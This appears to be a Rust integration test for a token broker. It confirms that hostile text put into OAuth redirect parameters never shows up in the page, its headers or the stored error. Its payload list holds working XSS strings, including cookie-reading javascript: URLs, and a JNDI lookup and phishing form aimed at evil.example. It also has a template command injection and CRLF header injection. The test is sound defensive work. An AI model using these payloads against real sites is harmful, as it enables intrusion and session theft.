//! Hostile texts in the redirect: nothing of them is on the page, in a header, or in what the bot
//! gets.

use libtest_mimic::Trial;
use token_broker_client::proto::AuthorizationState;
use url::Url;

use super::{begin, parameter, seen, shown, trace_id};
use crate::harness::browser::Page;
use crate::harness::{Browser, World, trial};

pub fn trials() -> Vec<Trial> {
    vec![trial("redirect::no_hostile_text_of_a_redirect_is_shown", nothing_is_shown)]
}

const TEXTS: [&str; 32] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "\"><svg onload=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "</title><h1>Owned</h1>",
    "</main></body></html>",
    "<h1>Your account is locked</h1>",
    "<a href=\"https://evil.example\">Continue</a>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=code>",
    "<iframe srcdoc='<b>x</b>'></iframe>",
    "<style>*{display:none}</style>",
    "<!-- ",
    "--><b>",
    "<![CDATA[x]]>",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "{{ heading }}",
    "{{7*7}}",
    "{% for p in paragraphs %}{{ p }}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "#{code}",
    "<%= system('id') %>",
    "\r\nSet-Cookie: token-broker=evil",
    "\r\n\r\n<h1>Second answer</h1>",
    "\nLocation: https://evil.example",
    "\u{0}\u{1}\u{1b}[31mred",
    "\u{202e}gnp.exe",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;&#60;b&#62;",
    "%3Cscript%3E%253Cb%253E",
    "call +1 555 0100 and read out the code 1234 5678",
];

/// Sixteen forms of each text.
fn payloads() -> Vec<String> {
    let forms: [fn(&str) -> String; 16] = [
        |t| t.to_owned(),
        |t| t.to_uppercase(),
        |t| format!("access_denied{t}"),
        |t| format!("{t}access_denied"),
        |t| format!("The user refused. {t}"),
        |t| format!("\"{t}\""),
        |t| format!("'{t}'"),
        |t| format!("`{t}`"),
        |t| format!("{t}{t}"),
        |t| t.repeat(40),
        |t| format!("{}{t}", "A".repeat(4000)),
        |t| format!("\u{feff}{t}"),
        |t| format!("ünïcödé 漢字 🔥 {t}"),
        |t| t.replace(' ', "\t"),
        |t| t.replace('<', "&lt;"),
        |t| t.chars().rev().collect(),
    ];
    TEXTS.iter().flat_map(|text| forms.iter().map(|form| form(text))).collect()
}

/// Where the text is put.
#[derive(Debug, Clone, Copy)]
enum Place {
    /// The error itself, and all that comes with it.
    Error,
    /// Beside the user's refusal.
    BesideRefusal,
    /// Beside an error that the page names.
    BesideKnownError,
    /// Beside nothing that makes a redirect whole.
    BesideNothing,
}

impl Place {
    const ALL: [Self; 4] =
        [Self::Error, Self::BesideRefusal, Self::BesideKnownError, Self::BesideNothing];

    fn url(self, callback: &str, state: &str, text: &str) -> Url {
        let mut url: Url = callback.parse().expect("a URL");
        {
            let mut query = url.query_pairs_mut();
            match self {
                Self::Error => query.append_pair("error", text),
                Self::BesideRefusal => query.append_pair("error", "access_denied"),
                Self::BesideKnownError => query.append_pair("error", "invalid_scope"),
                Self::BesideNothing => &mut query,
            };
            for name in ["error_description", "error_uri", "heading", "return_url", text] {
                query.append_pair(name, text);
            }
            query.append_pair("state", state);
        }
        url
    }

    fn expected(self) -> (u16, &'static str, AuthorizationState) {
        match self {
            Self::Error | Self::BesideKnownError => {
                (502, "The provider did not play along", AuthorizationState::Failed)
            }
            Self::BesideRefusal => (200, "Nothing was shared", AuthorizationState::Denied),
            Self::BesideNothing => (400, "The answer cannot be used", AuthorizationState::Pending),
        }
    }
}

/// What a page is apart from ids: its body and its headers.
fn without_ids(page: &Page, link: &str) -> (String, Vec<String>) {
    let trace = trace_id(&page.body).unwrap_or("no trace id");
    let body = page.body.replace(trace, "TRACE").replace(link, "LINK");
    let mut headers: Vec<_> = page
        .headers
        .iter()
        .filter(|(name, _)| !["date", "content-length"].contains(&name.as_str()))
        .map(|(name, value)| format!("{name}: {}", value.to_str().expect("text")))
        .collect();
    headers.sort();
    (body, headers)
}

/// One user's redirect with this text, and the page that it shows.
async fn land(
    world: &World,
    browser: &mut Browser,
    place: Place,
    text: &str,
) -> (String, Vec<String>) {
    let started = begin(world, "u1").await;
    let departure = browser.get(&started.authorization_url).await.location().expect("a redirect");
    let [state, callback] =
        ["state", "redirect_uri"].map(|name| parameter(&departure, name).expect("a parameter"));
    let page = browser.get(place.url(&callback, &state, text).as_str()).await;
    let (status, heading, end) = place.expected();
    assert_eq!((page.status, page.heading().as_str()), (status, heading), "{place:?} {text:?}");
    shown(&page, status, heading);

    let authorization = seen(world, &started.authorization_id).await;
    assert_eq!(authorization.state(), end, "{place:?} {text:?}");
    let harmless = |b: u8| b.is_ascii_alphanumeric() || b"_-.".contains(&b);
    assert!(authorization.error.len() <= 64 && authorization.error.bytes().all(harmless));
    let description = authorization.error_description.as_str();
    assert!(["", "The user refused.", "Acme answered with an error."].contains(&description));
    without_ids(&page, &started.authorization_url)
}

async fn nothing_is_shown() {
    let world = World::start().await;
    let mut browser = Browser::new();
    let payloads = payloads();
    assert!(payloads.len() >= 500);
    let mut references = Vec::new();
    for place in Place::ALL {
        references.push(land(&world, &mut browser, place, "harmless").await);
    }
    for (number, text) in payloads.iter().enumerate() {
        // In turn, and shifted by one for each text, so that each form is in each place.
        let index = (number + number / 16) % Place::ALL.len();
        let landed = land(&world, &mut browser, Place::ALL[index], text).await;
        assert_eq!(landed, references[index], "{:?} {text:?}", Place::ALL[index]);
    }
    assert_eq!(world.provider.ledger().token_calls, 0);
}
